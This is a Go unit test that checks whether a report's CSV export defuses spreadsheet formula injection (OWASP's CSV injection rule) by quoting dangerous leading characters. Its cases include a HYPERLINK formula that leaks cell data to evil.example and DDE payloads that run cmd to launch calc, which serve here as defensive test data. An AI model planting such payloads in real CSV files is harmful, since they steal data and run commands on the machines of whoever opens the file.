package report

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/stretchr/testify/require"
)

// TestCSVCellsAreNotFormulas: a report's CSV cells hold what servers and
// receipts say (a served model name, a server build, an error message, a
// warning); one starting with =, +, -, @, TAB or CR is a formula (or a
// DDE command) when the file is opened in a spreadsheet, so it is written
// with a leading ' (OWASP's CSV injection rule). Numbers, negative ones
// included, are written as they are; commas, quotes and line breaks are
// quoted by encoding/csv and read back whole.
func TestCSVCellsAreNotFormulas(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"formula", `=HYPERLINK("http://evil.example/?x="&A1,"open")`, `'=HYPERLINK("http://evil.example/?x="&A1,"open")`},
		{"plus", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"minus", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"at", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"tab", "\t=1+1", "'\t=1+1"},
		{"carriage return", "\r=1+1", "'\r=1+1"},
		{"negative number", "-0.20919410561940344", "-0.20919410561940344"},
		{"signed number", "+12.5", "+12.5"},
		{"exponent", "-1e-06", "-1e-06"},
		{"plain", "google/gemma-4-31B-it", "google/gemma-4-31B-it"},
		{"quotes, commas, lines", "a,\"b\"\nc", "a,\"b\"\nc"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rep := &Report{
				Sections: []Section{{ID: "s", Tables: []Table{{CSV: "t.csv", Header: []string{tc.in},
					Rows: [][]Cell{{{Text: tc.in}}, {{Text: "x", Raw: tc.in}}}}}}},
				Warnings: []string{tc.in},
			}
			files, err := rep.CSVFiles()
			require.NoError(t, err)
			require.Len(t, files, 2)
			for _, f := range files {
				recs, err := csv.NewReader(bytes.NewReader(f.Data)).ReadAll()
				require.NoError(t, err, f.Name)
				for _, rec := range recs[1:] {
					require.Equal(t, []string{tc.want}, rec, f.Name)
				}
			}
			recs, err := csv.NewReader(bytes.NewReader(files[0].Data)).ReadAll()
			require.NoError(t, err)
			require.Equal(t, []string{tc.want}, recs[0], "the header too")
		})
	}
}
